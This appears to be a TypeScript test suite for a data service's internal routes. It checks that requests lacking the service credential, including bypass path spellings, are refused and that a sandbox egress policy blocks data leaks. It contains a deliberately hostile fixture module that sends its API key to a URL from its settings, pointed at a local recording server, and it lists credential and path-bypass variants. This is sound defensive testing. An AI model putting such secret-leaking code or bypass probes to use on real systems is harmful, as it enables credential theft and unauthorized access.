import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { HttpApi } from "@effect/platform"
import { SqlClient } from "@effect/sql"
import { expect, layer } from "@effect/vitest"
import { DataHubApi, INTERNAL_PREFIX, RegistryApi, ServiceAuth } from "@quasar/domain"
import { TestService } from "@quasar/server/testing"
import { Duration, Effect, FastCheck as fc, Layer, Logger, LogLevel, Runtime } from "effect"
import { appLayer } from "../../src/App"
import { MemoryCatalog } from "../../src/testing/MemoryCatalog"
import { validJs } from "../sandbox/fixtures/modules"
import { validate } from "../sandbox/support"
import { announcingHugeBody, port, raw, ready } from "./support"

/** Every endpoint of both contracts: where it lives, and whether the service credential guards it. */
const endpoints: Array<{ api: string; method: string; template: string; serviceAuth: boolean }> = []
const collect =
  (api: string) =>
  ({
    endpoint,
    middleware
  }: {
    readonly endpoint: { readonly method: string; readonly path: string }
    readonly middleware: ReadonlySet<unknown>
  }) => {
    endpoints.push({
      api,
      method: endpoint.method,
      template: endpoint.path,
      serviceAuth: middleware.has(ServiceAuth)
    })
  }
HttpApi.reflect(DataHubApi, { onGroup: () => undefined, onEndpoint: collect("datahub") })
HttpApi.reflect(RegistryApi, { onGroup: () => undefined, onEndpoint: collect("registry") })
const internal = endpoints.filter((e) => e.api === "datahub" && e.template.startsWith(`${INTERNAL_PREFIX}/`))

/** Log messages of the service under test (instead of the console), to see whether a module was loaded. */
const logged: Array<string> = []
const recording = Layer.merge(
  Logger.replace(
    Logger.defaultLogger,
    Logger.make(({ message }) => {
      logged.push(Array.isArray(message) ? message.map(String).join(" ") : String(message))
    })
  ),
  Logger.minimumLogLevel(LogLevel.Info)
)

const app = TestService.layer(
  appLayer({ callTimeout: Duration.seconds(5), restartDelay: Duration.millis(100) }).pipe(
    Layer.provideMerge(MemoryCatalog.layer)
  )
).pipe(Layer.provide(recording))

/** A provider that sends its secret to the URL in its settings: what an attacker would aim at. */
const exfiltrating = validJs(
  "exfil",
  `async (ctx) => { await ctx.fetch(ctx.settings.region + "?key=" + ctx.settings.apiKey); return [{ symbol: "LEAKED" }] }`
)

/** A server that records every request it gets. */
const watchedServer = Effect.acquireRelease(
  Effect.async<{ url: string; hits: Array<string>; close: () => void }>((resume) => {
    const hits: Array<string> = []
    const server = createServer((req, res) => {
      hits.push(req.url ?? "")
      res.end("ok")
    })
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address() as AddressInfo
      resume(Effect.succeed({ url: `http://127.0.0.1:${port}/collect`, hits, close: () => server.close() }))
    })
  }),
  ({ close }) => Effect.sync(close)
)

const seedProvider = (leakUrl: string) =>
  Effect.gen(function* () {
    const { report, manifest } = yield* validate("exfil", exfiltrating)
    expect(report.issues).toEqual([])
    const catalog = yield* MemoryCatalog
    yield* catalog.putCode({ name: "exfil", version: 1, status: "active", manifest, source: exfiltrating })
    // As the Registry hands them over: the secret opened.
    yield* catalog.putSettings("exfil", { region: leakUrl, apiKey: "the-api-key" })
  })

/** Everything DataHub keeps, as one fingerprint. */
const stored = Effect.flatMap(
  SqlClient.SqlClient,
  (sql) =>
    sql<{ fingerprint: string }>`SELECT concat_ws('|',
      (SELECT md5(coalesce(string_agg(p::text, ',' ORDER BY id), '')) FROM datahub.provider_subscription p),
      (SELECT count(*) FROM datahub.historical_data), (SELECT count(*) FROM datahub.live_data)) AS fingerprint`
).pipe(Effect.map((rows) => rows[0]?.fingerprint))

const service = TestService.SERVICE_TOKEN

/** Credentials that must all be refused. */
const wrongCredential = fc.oneof(
  fc.constant<Record<string, string>>({}),
  fc
    .constantFrom(
      `Bearer ${TestService.ADMIN_TOKEN}`,
      `Basic ${service}`,
      `Token ${service}`,
      `Bearer${service}`,
      `${service}`,
      `Bearer ${service}x`,
      `Bearer ${service.slice(0, -1)}`,
      `Bearer x${service}`,
      `Bearer ${service.slice(0, -1)}${service.endsWith("f") ? "e" : "f"}`,
      `Bearer ${service.toUpperCase()}`,
      `Bearer ${service} ${service}`,
      "Bearer",
      "Bearer ",
      ""
    )
    .map((authorization) => ({ authorization })),
  fc
    .string({ minLength: 1, maxLength: 80 })
    .map((t) => ({ authorization: `Bearer ${t.replace(/[^\x21-\x7e]/g, "")}` }))
)

/** Spellings of a path the router still matches (it ignores case, duplicate and trailing slashes). */
const spelled = (path: string) =>
  fc.constantFrom(
    path,
    path.toUpperCase(),
    path.replace("/internal/", "/%69nternal/"),
    path.replace("/internal/", "//internal//"),
    `${path}/`
  )

const pathFor = (template: string) =>
  fc
    .oneof(
      fc.constantFrom("exfil", "nobody", "kraken"),
      fc.string({ minLength: 1, maxLength: 20 }).map(encodeURIComponent)
    )
    .chain((name) => spelled(template.replace(/:\w+/g, name)))

const body = fc.oneof(
  fc.constant<{ body?: string; type?: string }>({}),
  fc.record({
    body: fc.jsonValue().map((j) => JSON.stringify(j) ?? "null"),
    type: fc.constant("application/json")
  }),
  fc.record({
    body: fc.constant(
      JSON.stringify({ name: "exfil", kind: "provider", language: "javascript", source: exfiltrating })
    ),
    type: fc.constantFrom("application/json", "text/plain", "application/x-www-form-urlencoded")
  }),
  fc.record({
    body: fc.oneof(fc.string(), fc.constant("[".repeat(100_000)), fc.constant("source=export%20default%201")),
    type: fc.constantFrom(
      "application/json",
      "text/plain",
      "application/x-www-form-urlencoded",
      "text/csv",
      "multipart/form-data; boundary=x"
    )
  })
)

layer(app, { timeout: 180_000, excludeTestServices: true })("internal routes", (it) => {
  it.effect("exactly the routes under /internal/ need the service credential, in both services", () =>
    Effect.sync(() => {
      for (const e of endpoints)
        expect(e.serviceAuth, `${e.api} ${e.method} ${e.template}`).toBe(
          e.template.startsWith(`${INTERNAL_PREFIX}/`)
        )
      expect(internal.map((r) => `${r.method} ${r.template}`).sort()).toEqual([
        "GET /internal/code/:name/usage",
        "POST /internal/sandbox/:name/assets",
        "POST /internal/sandbox/validate",
        "POST /internal/subscriptions/live"
      ])
    })
  )

  it.effect("answer 401 to every request without the service credential, run nothing and store nothing", () =>
    Effect.gen(function* () {
      yield* ready
      const watched = yield* watchedServer
      yield* seedProvider(watched.url)
      const p = yield* port
      const before = yield* stored
      logged.length = 0
      const run = Runtime.runPromise(yield* Effect.runtime<never>())

      for (const route of internal)
        yield* Effect.promise(() =>
          fc.assert(
            fc.asyncProperty(pathFor(route.template), wrongCredential, body, async (path, auth, b) => {
              const headers: Record<string, string> = { ...auth }
              if (b.type !== undefined) headers["content-type"] = b.type
              const answer = await run(raw(p, { method: route.method, path, headers, body: b.body }))
              if (answer.status !== 401)
                throw new Error(
                  `${route.method} ${path} ${JSON.stringify(auth)} → ${answer.status} ${answer.text}`
                )
              expect(JSON.parse(answer.text)).toMatchObject({
                _tag: "Unauthorized",
                message: expect.any(String)
              })
            }),
            { numRuns: 150 }
          )
        )

      // Refused before the body is read: 80 MB announced, a few bytes sent, the answer comes at once.
      const big = yield* announcingHugeBody(p, "/internal/sandbox/validate", {})
      expect(big.status).toBe(401)

      expect(watched.hits).toEqual([])
      expect(logged.filter((m) => /upload (validated|rejected)/.test(m))).toEqual([])
      expect(yield* stored).toBe(before)

      // The same routes with the credential: the module loads, the provider runs.
      const authorized = { authorization: `Bearer ${service}`, "content-type": "application/json" }
      const validated = yield* raw(p, {
        method: "POST",
        path: "/internal/sandbox/validate",
        headers: authorized,
        body: JSON.stringify({
          name: "exfil",
          kind: "provider",
          language: "javascript",
          source: exfiltrating
        })
      })
      expect(validated.status).toBe(200)
      expect(logged.some((m) => m === "upload validated")).toBe(true)
      // The provider runs, and its attempt to send the key to this host is refused by the egress policy.
      const listed = yield* raw(p, {
        method: "POST",
        path: "/internal/sandbox/exfil/assets",
        headers: authorized
      })
      expect(listed.status).toBe(503)
      expect(JSON.parse(listed.text).message).toContain("the sandbox's egress policy refused")
      expect(listed.text).not.toContain("the-api-key")
      expect(watched.hits).toEqual([])
    }).pipe(Effect.scoped)
  )

  it.effect(
    "with the credential, junk bodies get a 4xx, never a 5xx",
    () =>
      Effect.gen(function* () {
        yield* ready
        const p = yield* port
        const run = Runtime.runPromise(yield* Effect.runtime<never>())
        yield* Effect.promise(() =>
          fc.assert(
            fc.asyncProperty(body, async (b) => {
              const headers: Record<string, string> = { authorization: `Bearer ${service}` }
              if (b.type !== undefined) headers["content-type"] = b.type
              // A request left unanswered is the finding itself, not a test timeout.
              const answer = await run(
                raw(p, { method: "POST", path: "/internal/sandbox/validate", headers, body: b.body }).pipe(
                  Effect.timeoutFail({
                    duration: "30 seconds",
                    onTimeout: () => new Error(`no answer within 30 s to ${JSON.stringify(b).slice(0, 200)}`)
                  })
                )
              )
              if (answer.status !== 200 && (answer.status < 400 || answer.status >= 500))
                throw new Error(`${JSON.stringify(b).slice(0, 200)} → ${answer.status} ${answer.text}`)
            }),
            { numRuns: 30 }
          )
        )
      }),
    // Some runs post a valid upload, and each of those starts a sandbox: slow on a loaded machine.
    120_000
  )
})
